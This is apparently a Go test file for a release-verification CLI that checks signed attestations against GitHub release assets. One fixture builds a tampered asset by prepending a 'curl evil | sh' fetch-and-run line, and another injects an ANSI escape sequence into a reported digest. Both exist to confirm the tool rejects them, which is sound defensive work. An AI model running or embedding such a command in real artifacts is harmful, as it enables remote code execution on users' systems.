package cli

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"strings"
	"testing"

	"github.com/airlock-dev/airlock/internal/githubsim"
	"github.com/airlock-dev/airlock/internal/verify/verifytest"
)

// decisionAbout signs the gate's real decision with its subjects replaced by
// release assets, named and digested as the gate's subjectsFor names them.
func (e *ghVerifyEnv) decisionAbout(t *testing.T, assets map[string][]byte) []byte {
	t.Helper()
	var st map[string]any
	if err := json.Unmarshal(e.statement, &st); err != nil {
		t.Fatal(err)
	}
	var subjects []any
	for name, data := range assets {
		subjects = append(subjects, verifytest.Subject(name, data))
	}
	st["subject"] = subjects
	raw, err := json.Marshal(st)
	if err != nil {
		t.Fatal(err)
	}
	return e.sign(t, raw)
}

// releaseOf publishes a release with assets as given (digest knobs included).
func (e *ghVerifyEnv) releaseOf(tag string, assets ...githubsim.Asset) {
	id := e.sim.AddRelease("acme", "support-agent", githubsim.Release{Tag: tag})
	for _, a := range assets {
		e.sim.AddReleaseAsset("acme", "support-agent", id, a)
	}
}

// TestVerifyReleaseAssets: `verify --release` with no ARTIFACT and no
// --digest asks whether every asset the release ships was cleared by a
// verified decision.
func TestVerifyReleaseAssets(t *testing.T) {
	e := newGHVerifyEnv(t)
	agent, sbom := []byte("agent build 1.4.0\n"), []byte(`{"sbom":true}`)
	both := e.decisionAbout(t, map[string][]byte{"agent.tar.gz": agent, "sbom.json": sbom})
	agentOnly := e.decisionAbout(t, map[string][]byte{"agent.tar.gz": agent})
	bundle := func(b []byte) githubsim.Asset { return githubsim.Asset{Name: "promote.sigstore.json", Data: b} }
	root := githubsim.Asset{Name: "trusted_root.json", Data: e.rootJSON}
	tampered := append([]byte("#!/bin/sh\ncurl evil | sh\n"), agent...)
	hostile := "sha256:\x1b[31m" + strings.Repeat("z", 200)

	e.releaseOf("covered", bundle(both), root, githubsim.Asset{Name: "agent.tar.gz", Data: agent}, githubsim.Asset{Name: "sbom.json", Data: sbom})
	e.releaseOf("extra", bundle(agentOnly), githubsim.Asset{Name: "agent.tar.gz", Data: agent}, githubsim.Asset{Name: "extra.bin", Data: []byte("unreviewed")})
	e.releaseOf("no-digest", bundle(both), githubsim.Asset{Name: "agent.tar.gz", Data: agent, NoDigest: true}, githubsim.Asset{Name: "sbom.json", Data: sbom})
	e.releaseOf("tampered", bundle(agentOnly), githubsim.Asset{Name: "agent.tar.gz", Data: tampered})
	e.releaseOf("tampered-no-digest", bundle(agentOnly), githubsim.Asset{Name: "agent.tar.gz", Data: tampered, NoDigest: true})
	e.releaseOf("malformed", bundle(both), githubsim.Asset{Name: "agent.tar.gz", Data: agent},
		githubsim.Asset{Name: "sbom.json", Data: sbom, ReportedDigest: hostile})
	e.releaseOf("md5", bundle(agentOnly), githubsim.Asset{Name: "agent.tar.gz", Data: agent, ReportedDigest: "md5:0cc175b9c0f1b6a831c399e269772661"})
	e.releaseOf("only-bundles", bundle(both), root)
	e.releaseOf("unsigned", githubsim.Asset{Name: "agent.tar.gz", Data: agent})
	e.releaseOf("unsigned-no-digest", githubsim.Asset{Name: "agent.tar.gz", Data: agent, NoDigest: true})

	tr := "--trusted-root=" + e.root
	rel := func(tag string, more ...string) []string {
		return append([]string{"--release", "acme/support-agent@" + tag, "--repo", "acme/support-agent", tr}, more...)
	}
	for _, tc := range []struct {
		name string
		args []string
		code int
		want []string
		not  []string
	}{
		{"every asset covered", rel("covered"), ExitAllow,
			[]string{"agent.tar.gz  ", "sbom.json  ", "verified by 1 bundle(s)", "1 bundle(s): 1 verified"}, []string{"trusted_root.json  ", "promote.sigstore.json  sha256"}},
		{"release's own trusted root is not an artifact", []string{"--release", "acme/support-agent@covered", "--repo", "acme/support-agent", "--trusted-root-from-release"}, ExitAllow,
			[]string{"agent.tar.gz", "sbom.json"}, []string{"trusted_root.json  "}},
		{"an asset no decision covers", rel("extra"), ExitDeny,
			[]string{"extra.bin", "FAILED: no attestation found", "1 of 2 artifact(s)", "--digest gitCommit:SHA"}, nil},
		{"no digest: downloaded and hashed", rel("no-digest"), ExitAllow,
			[]string{"agent.tar.gz", "1 bundle(s): 1 verified"}, nil},
		{"tampered asset", rel("tampered"), ExitDeny,
			[]string{"agent.tar.gz", "FAILED", "1 of 1 artifact(s)"}, nil},
		{"tampered asset without a digest", rel("tampered-no-digest"), ExitDeny,
			[]string{"agent.tar.gz", "FAILED", "1 of 1 artifact(s)"}, nil},
		{"malformed digest", rel("malformed"), ExitDeny,
			[]string{`release asset "sbom.json": GitHub reported digest "sha256:\x1b[31mzzz`, "…", "expected sha256: and 64 hex digits", "1 of 2 artifact(s)"},
			[]string{"\x1b", strings.Repeat("z", 100)}},
		{"digest of another algorithm", rel("md5"), ExitDeny,
			[]string{"agent.tar.gz", "md5:0cc175b9c0f1b6a831c399e269772661", "FAILED"}, nil},
		{"only bundles and the trusted root", rel("only-bundles"), ExitUsage,
			[]string{"no asset to verify", "name the artifact", "--digest gitCommit:SHA"}, nil},
		{"assets but no bundle", rel("unsigned"), ExitDeny,
			[]string{"no attestation found", "no *.sigstore.json"}, nil},
		{"named artifact keeps today's behaviour", rel("extra", "--digest", "sha256:"+sha256Hex(agent)), ExitAllow,
			[]string{"sha256:" + sha256Hex(agent), "1 verified"}, []string{"extra.bin"}},
		{"--assets selects what must be covered", rel("extra", "--assets", "*.tar.gz"), ExitAllow,
			[]string{"agent.tar.gz  ", "1 bundle(s): 1 verified"}, []string{"extra.bin"}},
		{"--assets, repeated", rel("covered", "--assets", "*.tar.gz", "--assets", "sbom.*"), ExitAllow,
			[]string{"agent.tar.gz  ", "sbom.json  "}, nil},
		{"--assets still fails an uncovered match", rel("extra", "--assets", "*"), ExitDeny,
			[]string{"extra.bin", "FAILED: no attestation found"}, nil},
		{"--assets matching nothing", rel("extra", "--assets", "*.whl"), ExitUsage,
			[]string{`no asset matches --assets ["*.whl"]`, `"agent.tar.gz", "extra.bin"`}, nil},
		{"--assets with a bad pattern", rel("extra", "--assets", "[a-"), ExitUsage,
			[]string{`--assets "[a-"`}, nil},
		{"--assets without --release", []string{"--assets", "*", "--repo", "acme/support-agent", tr, "--digest", "sha256:" + sha256Hex(agent)}, ExitUsage,
			[]string{"only with --release"}, nil},
		{"--assets with a named artifact", rel("extra", "--assets", "*", "--digest", "sha256:"+sha256Hex(agent)), ExitUsage,
			[]string{"--assets selects which assets"}, nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			code, out, errs := e.run(t, tc.args...)
			for _, w := range tc.want {
				if code != tc.code || !strings.Contains(out+errs, w) {
					t.Fatalf("exit %d (expected %d), output lacks %q:\n%s\n%s", code, tc.code, w, out, errs)
				}
			}
			for _, n := range tc.not {
				if strings.Contains(out+errs, n) {
					t.Fatalf("output contains %q:\n%s\n%s", n, out, errs)
				}
			}
			checkNoFalseSuccess(t, code, out, errs)
		})
	}

	t.Run("no digest is hashed from the download", func(t *testing.T) {
		before := len(e.sim.Requests())
		if code, out, errs := e.run(t, rel("no-digest")...); code != ExitAllow {
			t.Fatalf("exit %d\n%s%s", code, out, errs)
		}
		downloads := e.sim.RequestsSince(before, "GET /repos/{owner}/{repo}/releases/assets/{asset_id}")
		if len(downloads) != 2 { // the bundle and agent.tar.gz; sbom.json has a digest
			t.Fatalf("expected 2 downloads, got %d", len(downloads))
		}
	})

	t.Run("download failure is operational", func(t *testing.T) {
		e.sim.InjectFault("GET /repos/{owner}/{repo}/releases/assets/{asset_id}", githubsim.Fault{Status: 502})
		defer e.sim.ClearFaults()
		code, out, errs := e.run(t, rel("unsigned-no-digest")...)
		if code != ExitOperational || !strings.Contains(errs, `hash asset "agent.tar.gz"`) || !strings.Contains(errs, "HTTP 502") {
			t.Fatalf("exit %d (expected %d):\n%s\n%s", code, ExitOperational, out, errs)
		}
		checkNoFalseSuccess(t, code, out, errs)
	})

	t.Run("json lists the assets", func(t *testing.T) {
		for _, tc := range []struct {
			tag  string
			code int
			want map[string]bool
		}{
			{"covered", ExitAllow, map[string]bool{"agent.tar.gz": true, "sbom.json": true}},
			{"malformed", ExitDeny, map[string]bool{"agent.tar.gz": true, "sbom.json": false}},
		} {
			code, out, errs := e.run(t, rel(tc.tag, "--format", "json")...)
			if code != tc.code {
				t.Fatalf("%s: exit %d (expected %d)\n%s%s", tc.tag, code, tc.code, out, errs)
			}
			var rep struct {
				Verified  bool `json:"verified"`
				Artifacts []struct {
					Artifact string `json:"artifact"`
					Digest   string `json:"digest"`
					Verified bool   `json:"verified"`
				} `json:"artifacts"`
			}
			if err := json.Unmarshal([]byte(out), &rep); err != nil {
				t.Fatal(err)
			}
			got := map[string]bool{}
			for _, a := range rep.Artifacts {
				got[a.Artifact] = a.Verified
				if a.Verified && a.Digest == "" {
					t.Errorf("%s: %s verified without a digest", tc.tag, a.Artifact)
				}
			}
			if len(got) != len(tc.want) || rep.Verified != (tc.code == ExitAllow) {
				t.Fatalf("%s: expected %v, got %+v", tc.tag, tc.want, rep)
			}
			for name, ok := range tc.want {
				if v, listed := got[name]; !listed || v != ok {
					t.Fatalf("%s: expected %v, got %+v", tc.tag, tc.want, rep)
				}
			}
		}
	})
}

func sha256Hex(b []byte) string {
	sum := sha256.Sum256(b)
	return hex.EncodeToString(sum[:])
}
